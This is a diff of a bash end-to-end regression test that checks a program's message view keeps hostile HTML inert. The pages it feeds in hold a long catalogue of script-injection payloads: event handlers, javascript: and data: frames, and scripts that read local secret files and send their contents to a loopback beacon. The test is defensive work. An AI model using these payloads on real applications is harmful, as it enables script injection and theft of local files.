@@ -1,12 +1,10 @@
 #!/usr/bin/env bash
-# End-to-end regression test of the message page's safety: the real program, in a real X session
-# (run it under xvfb-run), opens five messages whose bodies try every way we know to run script or
-# to read a local file. Each attempt, if it worked, would ask the loopback server for a path under
-# /beacon/; the local files it aims at ask for a beacon when anything loads them; a local picture,
-# which cannot ask for anything, is looked for on the screen. One remote picture per page, which
-# the page is meant to load, proves the page was rendered. Wanted: no beacon, no file written by
-# the page, no message box, no link handed to the desktop, the page stored as the feed sent it
-# (the view makes it safe, not a rewrite of the text), and the program still up.
+# End-to-end regression test: a hostile message page stays inert in the real program (run it
+# under xvfb-run). Five messages try every way we know to run script or read a local file; each
+# attempt that worked would ask the loopback server for a path under /beacon/, and a local picture
+# would show on the screen. A remote picture per page proves the page was rendered. Wanted: no
+# beacon, no local picture, no file written, no box, nothing handed to the desktop, the page
+# stored as sent (the view makes it safe, not a rewrite), the program still up.
 #
 #   xvfb-run -a -s "-screen 0 1280x800x24" bash tests/e2e/page_safety_e2e.sh BUILD_DIR
 set -euo pipefail
@@ -54,42 +52,26 @@ dataUrl="file://${data// /%20}"
 probes=""
 for name in link-css-file link-css-data link-css-relative import-css-file; do probes+="<div id=\"probe-$name\" style=\"height:4px\"></div>"; done
 page1="<p>Hello reader.</p><img src=\"data:image/png;base64,$cyan\" alt=\"\">\
-<img src=\"$tmpUrl/secret-picture.png\" alt=\"\"><img src=\"$dataUrl/secret-picture.png\" alt=\"\">\
-<img src=\"secret-picture.png\" alt=\"\">\
+<img src=\"$tmpUrl/secret-picture.png\" alt=\"\"><img src=\"$dataUrl/secret-picture.png\" alt=\"\"><img src=\"secret-picture.png\" alt=\"\">\
 <span style=\"display: inline-block; width: 40px; height: 40px; background: url($tmpUrl/secret-picture.png)\"></span>\
-<img src=\"$base/control-1.png\" alt=\"\" onload=\"$(run img-onload)\" onerror=\"$(run img-onerror-remote)\">\
-<script>$(run script-image)</script>\
-<script>fetch('$beacon/script-fetch')</script>\
-<script>var x = new XMLHttpRequest(); x.open('GET', '$beacon/script-xhr'); x.send()</script>\
-<script>document.write('<img src=\"$beacon/script-write\">')</script>\
-<script src=\"$beacon/script-remote\"></script>\
-<img src=\"x\" onerror=\"$(run img-onerror)\">\
-<body onload=\"$(run body-onload)\">\
-<svg onload=\"$(run svg-onload)\" width=\"4\" height=\"4\"></svg>\
-<details open ontoggle=\"$(run details-ontoggle)\"><summary>more</summary>text</details>\
-<input autofocus onfocus=\"$(run input-onfocus)\">\
-<style onload=\"$(run style-onload)\">p { margin: 0 }</style>\
-<video><source src=\"x\" onerror=\"$(run video-onerror)\"></video>\
-<iframe src=\"javascript:$(run javascript-iframe)\"></iframe>\
-<object data=\"javascript:$(run javascript-object)\"></object>\
+<img src=\"$base/control-1.png\" alt=\"\" onload=\"$(run img-onload)\" onerror=\"$(run img-onerror-remote)\"><script>$(run script-image)</script>\
+<script>fetch('$beacon/script-fetch')</script><script>var x = new XMLHttpRequest(); x.open('GET', '$beacon/script-xhr'); x.send()</script>\
+<script>document.write('<img src=\"$beacon/script-write\">')</script><script src=\"$beacon/script-remote\"></script>\
+<img src=\"x\" onerror=\"$(run img-onerror)\"><body onload=\"$(run body-onload)\"><svg onload=\"$(run svg-onload)\" width=\"4\" height=\"4\"></svg>\
+<details open ontoggle=\"$(run details-ontoggle)\"><summary>more</summary>text</details><input autofocus onfocus=\"$(run input-onfocus)\">\
+<style onload=\"$(run style-onload)\">p { margin: 0 }</style><video><source src=\"x\" onerror=\"$(run video-onerror)\"></video>\
+<iframe src=\"javascript:$(run javascript-iframe)\"></iframe><object data=\"javascript:$(run javascript-object)\"></object>\
 <embed src=\"javascript:$(run javascript-embed)\">\
 <iframe srcdoc=\"&lt;script&gt;$(run srcdoc-script)&lt;/script&gt;&lt;iframe src=&quot;$tmpUrl/secret-srcdoc-iframe-file.html&quot;&gt;&lt;/iframe&gt;\"></iframe>\
-<iframe src=\"data:text/html,&lt;script&gt;$(run data-iframe)&lt;/script&gt;\"></iframe>\
-<iframe src=\"$beacon/remote-iframe\"></iframe>\
-<object data=\"$beacon/remote-object\" type=\"text/html\"></object>\
-<iframe src=\"$tmpUrl/secret-iframe-file.html\"></iframe>\
-<iframe src=\"$dataUrl/secret-iframe-data.html\"></iframe>\
-<iframe src=\"secret-iframe-relative.html\"></iframe>\
+<iframe src=\"data:text/html,&lt;script&gt;$(run data-iframe)&lt;/script&gt;\"></iframe><iframe src=\"$beacon/remote-iframe\"></iframe><link rel=\"stylesheet\" href=\"$beacon/remote-css\">\
+<object data=\"$beacon/remote-object\" type=\"text/html\"></object><iframe src=\"$tmpUrl/secret-iframe-file.html\"></iframe>\
+<iframe src=\"$dataUrl/secret-iframe-data.html\"></iframe><iframe src=\"secret-iframe-relative.html\"></iframe>\
 <object data=\"$tmpUrl/secret-object-file.html\" type=\"text/html\"></object>\
-<object data=\"$tmpUrl/secret-object-svg.svg\" type=\"image/svg+xml\"></object>\
-<embed src=\"$dataUrl/secret-embed-svg.svg\" type=\"image/svg+xml\">\
+<object data=\"$tmpUrl/secret-object-svg.svg\" type=\"image/svg+xml\"></object><embed src=\"$dataUrl/secret-embed-svg.svg\" type=\"image/svg+xml\">\
 <svg width=\"9\" height=\"9\"><use href=\"$tmpUrl/secret-svg-use-file.svg#g\"/><use href=\"secret-svg-use-relative.svg#g\"/></svg>\
-<link rel=\"stylesheet\" href=\"$tmpUrl/secret-link-css-file.css\">\
-<link rel=\"stylesheet\" href=\"$dataUrl/secret-link-css-data.css\">\
-<link rel=\"stylesheet\" href=\"secret-link-css-relative.css\">\
-<style>@import url(\"$tmpUrl/secret-import-css-file.css\");</style>$probes\
-<script src=\"$tmpUrl/secret-script-file.js\"></script>\
-<script src=\"$dataUrl/secret-script-data.js\"></script>\
+<link rel=\"stylesheet\" href=\"$tmpUrl/secret-link-css-file.css\"><link rel=\"stylesheet\" href=\"$dataUrl/secret-link-css-data.css\">\
+<link rel=\"stylesheet\" href=\"secret-link-css-relative.css\"><style>@import url(\"$tmpUrl/secret-import-css-file.css\");</style>$probes\
+<script src=\"$tmpUrl/secret-script-file.js\"></script><script src=\"$dataUrl/secret-script-data.js\"></script>\
 <script src=\"secret-script-relative.js\"></script>\
 <script>fetch('$tmpUrl/secret-xhr-file.html').then(r => r.text()).then(t => { new Image().src = '$beacon/xhr-file?' + encodeURIComponent(t) })</script>\
 <script>var s = new XMLHttpRequest(); s.open('GET', '$dataUrl/secret-xhr-file-sync.html', false); s.send(); new Image().src = '$beacon/xhr-file-sync?' + encodeURIComponent(s.responseText)</script>\
@@ -123,19 +105,13 @@ export PATH="$work/bin:$PATH" BROWSER="$work/bin/browser" DEFAULT_BROWSER="$work
 start_program
 check_all "$id=5"
 
-# Opens the next message down the tree and waits for its control picture (and a screenshot, with
-# QP_SCREENSHOT_DIR set).
+# Opens the next message down the tree and waits for its control picture. The open page has the
+# keyboard: a click on the free space below the list gives it back, the current row stays.
 opened=0
 open_next() {
   focus_main
-  if [ "$opened" = 0 ]; then
-    key Home Right Down Return
-  else
-    # The open page has the keyboard: a click on the free space below the list gives it back to
-    # the list, whose current row stays.
-    xdotool mousemove --window "$wid" 140 300 click 1
-    sleep 0.3
-    key Down Return
+  if [ "$opened" = 0 ]; then key Home Right Down Return; else
+    xdotool mousemove --window "$wid" 140 300 click 1 && sleep 0.3 && key Down Return
   fi
   opened=$((opened + 1))
   wait_for 300 grep -q "^GET /control-$opened.png" "$work/requests.log" ||
